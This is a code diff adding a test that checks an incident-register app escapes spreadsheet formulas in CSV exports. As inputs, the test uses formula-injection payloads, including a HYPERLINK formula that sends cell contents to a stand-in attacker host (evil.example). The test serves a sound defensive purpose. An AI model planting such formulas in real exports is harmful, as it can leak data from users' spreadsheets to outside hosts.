@@ -280,3 +280,30 @@ def test_exports_never_tie_a_worker_to_the_register_behind_their_back(
         assert ACCOUNT in json.dumps([p["value"] for p in personal])
         done = run_verifier(tmp_path, str(own), "--key", str(tmp_path / "key.pub"))
         assert done.returncode in (verify.OK, verify.FINDINGS), done.stdout + done.stderr
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(database_url: str, tmp_path: Path) -> None:
+    """A typed account (or a consenting worker's name) starting with = + - or @ is
+    exported with a leading apostrophe: a spreadsheet shows it as text."""
+    with kit(database_url, tmp_path) as k:
+        boss = k.person("boss", "Boss", Role.MANAGER)
+        worker = k.person("w-7", "@SUM(1+1)", Role.WORKER)
+        formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-3", "@A1"]
+        incidents = []
+        for account in formulas:
+            incident = _incident(k)
+            made = k.client.post(
+                "/api/v1/violence",
+                json={"incident_id": incident, "account": account, "worker": "w-7"},
+                headers=boss,
+            )
+            assert made.status_code == 201, made.text
+            incidents.append(incident)
+        consent = f"/api/v1/me/violence/{incidents[0]}/consent"
+        assert k.client.post(consent, headers=worker).status_code == 204
+        rows = {int(r["incident"]): r for r in _register(k, boss)}
+        assert [rows[i]["account"] for i in incidents] == ["'" + f for f in formulas]
+        assert rows[incidents[0]]["worker"] == "'@SUM(1+1)"
+        assert rows[incidents[1]]["worker"] == "anonymous"
+        # Plain text is left as typed.
+        assert rows[incidents[0]]["room"] == "Room 1"
